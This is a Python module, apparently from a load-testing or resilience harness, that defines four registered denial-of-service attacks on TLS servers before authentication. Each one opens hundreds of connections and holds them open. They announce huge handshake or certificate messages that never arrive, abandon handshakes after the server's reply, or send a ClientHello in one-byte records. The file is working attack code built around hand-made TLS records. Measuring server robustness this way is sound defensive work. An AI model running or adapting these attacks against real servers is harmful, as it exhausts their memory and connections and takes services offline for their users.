"""Attacks on TLS before the peer is known."""

import os
import struct
import time

from attacks import Attacks
from measure import address, connect, receive_to_end

ATTACKS = Attacks()


def record(content, kind=22, version=0x0301):
    """One TLS record."""
    return struct.pack(">BHH", kind, version, len(content)) + content


def client_hello(tls12=True):
    """A ClientHello that an ordinary server answers; of TLS 1.2 alone, whose handshake goes on in plain text."""
    suites = struct.pack(">6H", 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8)
    groups = struct.pack(">3H", 29, 23, 24)
    signatures = struct.pack(">8H", 0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501)

    def extension(number, content):
        return struct.pack(">HH", number, len(content)) + content

    extensions = extension(10, struct.pack(">H", len(groups)) + groups)
    extensions += extension(11, b"\x01\x00")
    extensions += extension(13, struct.pack(">H", len(signatures)) + signatures)
    extensions += extension(23, b"") + extension(0xFF01, b"\x00")
    body = struct.pack(">H", 0x0303) + os.urandom(32) + b"\0" + struct.pack(">H", len(suites)) + suites + b"\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    return b"\x01" + struct.pack(">I", len(body))[1:] + body


def read_until_done(connection):
    """Reads the server's flight of TLS 1.2 up to ServerHelloDone; whether it asks for a certificate."""
    data, handshake, asks = b"", b"", False
    while True:
        while len(data) < 5 or len(data) < 5 + struct.unpack(">H", data[3:5])[0]:
            block = connection.recv(1 << 16)
            if not block:
                raise ConnectionError("no ServerHelloDone")
            data += block
        length = struct.unpack(">H", data[3:5])[0]
        kind, content, data = data[0], data[5 : 5 + length], data[5 + length :]
        if kind != 22:
            raise ConnectionError(f"alert {content!r}")
        handshake += content
        while len(handshake) >= 4 and len(handshake) >= 4 + int.from_bytes(handshake[1:4], "big"):
            message, size = handshake[0], int.from_bytes(handshake[1:4], "big")
            handshake = handshake[4 + size :]
            asks = asks or message == 13
            if message == 14:
                return asks


def hold_connections(target, count, send, hold):
    connections = []
    for _ in range(count):
        connection = connect(target.place, 30)
        try:
            send(connection)
        except OSError:
            pass
        connections.append(connection)
    time.sleep(hold)


@ATTACKS.attack("announced-hellos", connections=1000, length=131_000, at="scrape", hold=2, kind=1)
def announced_hellos(target, parameters, _):
    """43 bytes that announce a handshake message of 131,000."""
    target.place = target.scrape if parameters["at"] == "scrape" else target.tcp
    begun = bytes([parameters["kind"]]) + struct.pack(">I", parameters["length"])[1:] + b"\x03\x03" + b"\0" * 32
    per_process = parameters["connections"] // 2
    for _ in range(2):
        target.attackers.start(
            hold_connections, target, per_process, lambda connection: connection.sendall(record(begun)), parameters["hold"])


@ATTACKS.attack("announced-certificates", connections=300, length=100_000, at="scrape", hold=2)
def announced_certificates(target, parameters, _):
    """A client's certificates, announced after an ordinary ClientHello and never sent."""
    target.place = target.scrape if parameters["at"] == "scrape" else target.tcp

    def announce(connection):
        connection.sendall(record(client_hello()))
        if not read_until_done(connection):
            raise RuntimeError("no certificate was asked for")
        connection.sendall(record(b"\x0b" + struct.pack(">I", parameters["length"])[1:] + b"\0" * 8, version=0x0303))

    for _ in range(2):
        target.attackers.start(hold_connections, target, parameters["connections"] // 2, announce, parameters["hold"])


@ATTACKS.attack("half-handshakes", connections=500, at="scrape", hold=2)
def half_handshakes(target, parameters, _):
    """Handshakes that stop after the server's flight."""
    target.place = target.scrape if parameters["at"] == "scrape" else target.tcp

    def begin(connection):
        connection.sendall(record(client_hello()))
        read_until_done(connection)

    for _ in range(2):
        target.attackers.start(hold_connections, target, parameters["connections"] // 2, begin, parameters["hold"])


@ATTACKS.attack("hellos-in-pieces", connections=200, at="scrape", hold=1)
def hellos_in_pieces(target, parameters, _):
    """A ClientHello in records of one byte each."""
    target.place = target.scrape if parameters["at"] == "scrape" else target.tcp

    def send(connection):
        connection.sendall(b"".join(record(bytes([byte])) for byte in client_hello()))

    target.attackers.start(hold_connections, target, parameters["connections"], send, parameters["hold"])
